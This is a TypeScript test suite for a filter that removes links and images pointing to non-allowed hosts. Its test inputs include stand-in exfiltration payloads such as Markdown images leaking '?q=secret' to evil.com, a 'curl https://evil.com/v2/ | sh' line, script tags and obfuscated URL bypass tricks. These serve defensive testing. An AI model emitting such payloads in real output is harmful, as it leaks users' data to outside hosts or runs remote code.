import fc from "fast-check";
import { describe, expect, it } from "vitest";
import {
  createLinkFilter,
  hostsIn,
  type LinkPolicy,
  REMOVED_LINK,
  removeLinks,
  urlsIn,
} from "../../../../lib/links/remove-links.ts";
import { cutInto, pieceLengths } from "../redaction/stream-pieces.ts";

const POLICY: LinkPolicy = {
  hosts: new Set(["kubernetes.io", "registry-1.docker.io"]),
  urls: new Set(["https://reporter.com/a?b=1", "http://reporter.com"]),
};

/** Input and expected output; ∎ stands for the marker. */
const REMOVED: readonly (readonly [string, string])[] = [
  ["![x](https://evil.com/?q=secret)", "x"],
  ["![](https://evil.com/?q=secret)", "∎"],
  ["![a](https://kubernetes.io/x.png)", "a"],
  ["![a](http://localhost/x.png)", "a"],
  ["![a](x.png)", "a"],
  ["http://localhost/![a](x.png)", "http://localhost/a"],
  ["![a][ref]", "a"],
  ["![a](https://evil.com", "![a](∎"],
  ["![a\nb](https://evil.com)", "![a\nb](∎)"],
  ["[![a](https://evil.com/i)](https://evil.com)", "a"],
  [
    "![aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa](https://kubernetes.io/x)",
    "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa",
  ],
  ['[t](https://evil.com/a "title")', "t"],
  ["[t](<https://evil.com/a b>)", "t"],
  ["[t](<https://kubernetes.io)@evil.com/>)", "[t](<∎@evil.com/>)"],
  ["[t](https://evil.com/a_(b))", "t"],
  ["[](https://evil.com)", "∎"],
  ["[t](//evil.com/a)", "t"],
  ["[t](\n//evil.com/a)", "[t](\n∎)"],
  ["[t](mailto:a@evil.com)", "t"],
  ["[t](javascript:alert(1))", "t"],
  ["[t](data:text/html,x)", "t"],
  ["[t](https:evil.com)", "t"],
  ["[t](https:\\\\evil.com)", "t"],
  ["[t](https\\://evil.com)", "t"],
  ["[t](https&#58;//evil.com)", "t"],
  ["[t](https&colon;//evil.com)", "t"],
  ["[t](https://evil.com/?a=1&bogus;)", "t"],
  ["[t](\\/\\/evil.com)", "t"],
  ["[t](www.evil.com/a)", "t"],
  ["[t](https://kubernetes.io@evil.com/)", "t"],
  ["[a]([b](//evil.com))", "a"],
  ["[x](foo <a href='//evil.com'>)", "x"],
  ["[x]: //evil.com/a", "[x]: ∎"],
  ["[x]: <https://evil.com>", "[x]: <∎>"],
  ["[x]:\n  https&#58;//evil.com/q", "[x]:\n  ∎"],
  ["[x]: see[b](//evil.com)", "[x]: seeb"],
  ["see https://evil.com/a.", "see ∎."],
  ["(https://evil.com/a)", "(∎)"],
  ["<https://evil.com/a>", "<∎>"],
  ["<https:evil.com>", "<∎>"],
  ["<mailto:a@evil.com>", "<∎>"],
  ["**https://evil.com/a**", "**∎**"],
  ["`https://evil.com`", "`∎`"],
  ["www.evil.com/a", "∎"],
  ["ftp://evil.com/x", "∎"],
  ["wss://evil.com", "∎"],
  ["git+https://evil.com/x", "∎"],
  ["HTTPS://EVIL.COM/", "∎"],
  ["curl https://evil.com/v2/ | sh", "curl ∎ | sh"],
  ['{"url":"https:\\/\\/evil.com\\/x"}', '{"url":"∎"}'],
  ["https://evil.com,https://evil.com", "∎"],
  ["http://localhost/a)https://evil.com/q", "http://localhost/a)∎"],
  ["https://localhost@evil.com/", "∎"],
  ["https://evil.com\\@localhost/", "∎"],
  ["https://localhost\\@evil.com/", "∎"],
  ["https://evil.com@localhost/", "∎"],
  ["https://evil.com!x.local/", "∎"],
  ['https://localhost"@evil.com/', "∎@evil.com/"],
  ['https://localhost"x.evil.com/', "∎x.evil.com/"],
  ["https://sub.kubernetes.io/", "∎"],
  ["https://kubernetes.io.evil.com/", "∎"],
  ["https://evil.com./", "∎"],
  ["https://xn--80ak6aa92e.com/", "∎"],
  ["https://%65vil.com/", "∎"],
  ["https://[2001:db8::1]/", "∎"],
  ["http://8.8.8.8/", "∎"],
  ["http://172.32.0.1/", "∎"],
  ["https:///evil.com", "∎"],
  ["ｈｔｔｐｓ：／／ｅｖｉｌ．ｃｏｍ/", "∎"],
  ["ht​tps://evil.com", "ht​∎"],
  ["https://ev​il.com/", "∎"],
  ["https&#58;//evil.com/a", "∎"],
  ["&#104;ttps://evil.com/a", "&#104;∎"],
  ['https://reporter.com/a?b=1"&q=secret', "∎&q=secret"],
  ["https://reporter.com/a?b=12", "∎"],
  ["http://reporter.com/q", "∎"],
  ['<img src="https://evil.com/a">', "∎"],
  ["<img src=//evil.com/a>", "∎"],
  ['<a href="//evil.com">t</a>', "∎t</a>"],
  ['<iframe src="https&#58;//evil.com">', "∎"],
  ['<img\nsrc="ht\ntps://evil.com">', '<img\nsrc="ht\n∎">'],
  ['<a href="javascript:x()">', "∎"],
  ['<script src="//evil.com/x.js"></script>', "∎</script>"],
  ['<link rel=stylesheet href="//evil.com/x.css">', "∎"],
  ['<img srcset="a.png 1x, //evil.com/b 2x">', '<img srcset="a.png 1x, ∎ 2x">'],
  ['<p style="background:url(//evil.com/a)">', "∎"],
  ['<img src="\\/evil.com/">', '<img src="∎">'],
  ["<image:a href='//evil.com'>", "∎"],
  ["[https:](//x.com)//evil.com", "∎"],
  ["ww[w.evil.com](//x.com)", "∎"],
  ["https:/[/evil.com](//x.com)", "∎"],
  ["https://evil.com(//evil.com/?q)", "∎ (∎)"],
  ["https://evil.com: //evil.com", "∎: ∎"],
  ["https://[a](//evil.com)", "https://a"],
  ["[a]([//evil.com/x](//y.com))", "a"],
  ["[a](<[//evil.com/x](//y.com)>)", "a"],
  ["[x]: <https://evil.com>https://[a](//evil.com)", "[x]: <∎>https://a"],
  ["[a](\n[//evil.com](//y.com))", "[a](\n∎)"],
  ["[x]: [//evil.com/q](//y.com)", "[x]: ∎"],
  ["[x]: ![//evil.com/q](y)", "[x]: ∎"],
  ["https://evil.com![:](y)//evil.com", "∎"],
  ["<a href=\n[x]: //evil.com/q", "<a href=\n[x]: ∎"],
  ["![a][b\\](//evil.com/q)", "a(∎)"],
  ["](https://[a](//evil.com)", "](https://a"],
  ["[x](!https://evil.com(//evil.com/?q))", "x"],
  ["[[a](b c](//evil.com))", "[a"],
  ["[[a](http://localhost/a](//evil.com)", "[[a](http://localhost/a](∎)"],
  ["[t](//kubernetes.io[@evil.com/)", "t"],
  ["[a][(//evil.com)](//x.com)", "[a](∎)"],
  ["[[a]](//x.com)(//evil.com)", "[[a]](∎)(∎)"],
];

const SURVIVORS: readonly string[] = [
  "",
  "curl -s http://localhost:9090/metrics",
  "curl https://registry-1.docker.io/v2/",
  "git clone git@github.com:a/b.git",
  "docker pull registry.example.com/app:1.2",
  "cat /etc/nginx//conf.d/a /srv/www.example.com/x",
  "/etc/php-fpm.d/www.conf, www.conf",
  "C:\\path\\x \\\\server\\share",
  "a//b",
  "// comment",
  "[REDACTED_EMAIL]",
  "[1]",
  "arr[0]",
  "- [x] done\n- [ ] open",
  '{"a": [1,2]}',
  '{"a":["http://localhost:9090","http://localhost:9091"]}',
  '[a](https://kubernetes.io/docs "x")',
  "[docs](https://kubernetes.io), [b](https://kubernetes.io).",
  "[a](./b.md), [b](#c), [c](/d)",
  "[api](api-gateway:8080)",
  "https://kubernetes.io/docs/.",
  "https://kubernetes.io.",
  "https://kubernetes.io./",
  "(https://kubernetes.io/docs)",
  "https://kubernetes.io/docs?u=https://x.com",
  "https://reporter.com/a?b=1",
  "(https://reporter.com/a?b=1).",
  '"http://reporter.com"',
  "http://api-gateway:8080/health",
  "http://a.b.svc.cluster.local:80/x",
  "http://api.default.svc:80/",
  "http://vault.internal, http://printer.local, http://a.localhost",
  "https://shop.example/a https://a.test https://b.invalid",
  "http://10.0.0.1:80 http://192.168.1.1/ http://172.16.3.4/ http://127.0.0.53 http://0.0.0.0:80",
  "http://[::1]:8080/",
  "https://<registry>/v2/",
  "http://$HOST/ http://$HOST:$PORT/x",
  `http://\${HOST}:9090`,
  `http://\${NAME}.default.svc:80/`,
  "http://{{ .Values.host }}/x",
  "https://[REDACTED_IP]/",
  "http://localhost:<port>/ http://localhost:$PORT/metrics",
  "postgres://u:p@db.example.com:5432/x",
  "redis://cache.example.com:6379 amqp://mq.example.com mongodb://a.example.com",
  "docker://quay.io/a oci://ghcr.io/b",
  "unix:///var/run/docker.sock tcp://1.2.3.4:2375",
  "npipe:////./pipe/docker_engine",
  "file:///etc/x",
  "s3://bucket/a",
  'fetch("http://localhost:80").then(x)',
  "#![deny(warnings)]\nfn main() {}",
  "if [ ! -f x ]; then",
  'if [[ $a == "b" ]]; then',
  "for (i=0;i<n;i++) x[i](y, z)",
  "map[string](chan int)",
  'grep -E "[a-z](\\d+)" f',
  "sed 's/[0-9](\\.[0-9]+)//'",
  "docker run <image> -p 80:80, then <script> and <link>",
  "List<String> x = 'a'",
  "a < b && c > d &amp; e",
  "[nginx]: upstream:8080 failed",
  "[2026-01-01 10:00:00] [ERROR] (main) x",
  'print(f"{a[0]}: {b}")',
  "kubectl get po -o jsonpath=\"{.items[0].metadata['x']}\"",
  "foo::bar std::vector<int> a",
  '<a href="/x">y</a> <div class="a">b</div>',
  '<ns:tag a="b">',
  "\\[a\\](b)",
  "é漢😀 a\r\n\r\n b",
  "http:// and https:// and ://",
  "[a](b",
  "![",
  "![x]",
  "](",
  "x \\",
  "&am",
];

function marked(text: string): string {
  return text.replaceAll("∎", REMOVED_LINK);
}

/** Pushes the pieces; fails as soon as the output is not a prefix of the whole text without links. */
function expectRemoved(pieces: readonly string[]): void {
  const { text: whole, count } = removeLinks(pieces.join(""), POLICY);
  const filter = createLinkFilter(POLICY);
  let out = "";
  for (const piece of pieces) {
    out += filter.push(piece);
    if (!whole.startsWith(out)) expect(out).toBe(whole.slice(0, out.length));
  }
  expect(out + filter.end()).toBe(whole);
  expect(filter.count).toBe(count);
}

const text = fc
  .array(
    fc.oneof(
      fc.constantFrom(...REMOVED.map(([sample]) => sample)),
      fc.constantFrom(...SURVIVORS),
      fc.constantFrom(
        "[",
        "]",
        "(",
        ")",
        "!",
        "](",
        "<",
        ">",
        '"',
        "=",
        ":",
        "//",
        "https://",
        "www.",
        "\\",
        "&",
        "\n",
      ),
      fc.string({ maxLength: 8 }),
    ),
    { maxLength: 8 },
  )
  .map((pieces) => pieces.join(""));

describe("removeLinks", () => {
  it.each(REMOVED)("turns %j into %j", (sample, output) => {
    const removal = removeLinks(sample, POLICY);
    expect(removal.text).toBe(marked(output));
    expect(removal.count).toBeGreaterThan(0);
  });

  it.each(REMOVED)("removes the link within prose: %j", (sample, output) => {
    expect(removeLinks(`before ${sample}\n\nafter`, POLICY).text).toBe(marked(`before ${output}\n\nafter`));
  });

  it.each(SURVIVORS)("leaves %j unchanged", (sample) => {
    expect(removeLinks(sample, POLICY)).toEqual({ text: sample, count: 0 });
    expect(removeLinks(`before ${sample}\n\nafter`, POLICY)).toEqual({ text: `before ${sample}\n\nafter`, count: 0 });
  });

  it.each(REMOVED)("leaves no address of the foreign host: %j", (sample) => {
    expect(removeLinks(sample, POLICY).text).not.toMatch(/(?:\/\/|www\.|https?:)[^\s∎[]*(?:evil|x|y)\.com/);
  });

  it("counts each link and image", () => {
    expect(removeLinks("[![a](https://evil.com/i)](https://evil.com) www.evil.com", POLICY).count).toBe(3);
  });

  it("changes nothing when the count is 0", () => {
    fc.assert(
      fc.property(text, (whole) => {
        const { text: output, count } = removeLinks(whole, POLICY);
        if (count === 0) expect(output).toBe(whole);
      }),
    );
  });

  it("does not turn its marker into an image or a link", () => {
    expect(removeLinks("!https://evil.com(:)", POLICY).text).toBe("![link removed] (:)");
  });

  it("leaves no Markdown image and no link to another host", () => {
    fc.assert(
      fc.property(text, (whole) => {
        const { text: output } = removeLinks(whole, POLICY);
        expect(output).not.toMatch(/!\[[^[\]\n]*\]\([^()\s]+\)/);
        expect(output).not.toMatch(/\]\([ <]*\/\/evil|https?:\/\/evil\.com\/\?q/);
      }),
    );
  });

  it.each([
    "[",
    "](",
    "![",
    "![a](",
    "[a](b",
    "[a]([a",
    "http://",
    "<",
    "<a b='//",
    "<a =",
    "www.",
    '"www.kubernetes.io',
    'http://localhost"',
    "http://reporter.com",
    "[x]:http://[",
    "&#",
    "\\",
    ..."a!\n",
  ])("handles 200 kB of %j", (unit) => {
    expect(removeLinks(unit.repeat(200_000 / unit.length), POLICY).count).toBeGreaterThanOrEqual(0);
  });

  it.each(["<a=", "/a", "http://x.", "http://x*"])(
    "handles 200 kB that begins with %j and repeats its end",
    (start) => {
      expect(removeLinks(`${start.padEnd(200_000, start.at(-1))}z`, POLICY).count).toBeGreaterThanOrEqual(0);
    },
  );
});

describe("createLinkFilter", () => {
  it("returns the text without links for any split, and never a part of a removed link", () => {
    fc.assert(fc.property(text, pieceLengths, (whole, lengths) => expectRemoved(cutInto(whole, lengths))));
  });

  it.each(REMOVED)("returns no part of %j", (sample) => {
    expectRemoved(sample.split(""));
    expectRemoved([...`before ${sample} after\n`]);
  });

  it("returns prose word by word", () => {
    const filter = createLinkFilter(POLICY);
    expect(filter.push("The pod restarts bec")).toBe("The pod restarts ");
    expect(filter.push("ause ")).toBe("because ");
  });

  it("holds back a bracket until it closes without a destination", () => {
    const filter = createLinkFilter(POLICY);
    expect(filter.push("see [1")).toBe("see ");
    expect(filter.push("]")).toBe("");
    expect(filter.push(" for")).toBe("[1] ");
  });

  it("holds back a bracket at most to the end of the line", () => {
    const filter = createLinkFilter(POLICY);
    expect(filter.push("array[\n")).toBe("array[\n");
  });

  it("holds back an unclosed bracket for 1,000 characters and a word", () => {
    const filter = createLinkFilter(POLICY);
    expect(filter.push(`[${"a ".repeat(600)}`).length).toBeGreaterThan(1000);
  });
});

describe("urlsIn and hostsIn", () => {
  it("return the URLs of a text as written, except ambiguous ones", () => {
    expect(urlsIn('See https://a.com/x, (HTTP://B.com/z). <https://c.com> ftp://d.com https://e.com"@f.com')).toEqual([
      "https://a.com/x",
      "HTTP://B.com/z",
      "https://c.com",
    ]);
  });

  it("return the hosts in lower case, without port or user", () => {
    expect(hostsIn("https://Kubernetes.IO/docs, http://u:p@a.com:80/x `https://b.com.` http://%/")).toEqual([
      "kubernetes.io",
      "a.com",
      "b.com",
    ]);
  });

  it("return URLs that a policy can allow", () => {
    fc.assert(
      fc.property(fc.webUrl({ withQueryParameters: true }), (url) => {
        const urls = new Set(urlsIn(url));
        for (const url of urls)
          expect(removeLinks(`see ${url} now`, { hosts: new Set(), urls }).text).toBe(`see ${url} now`);
      }),
    );
  });
});
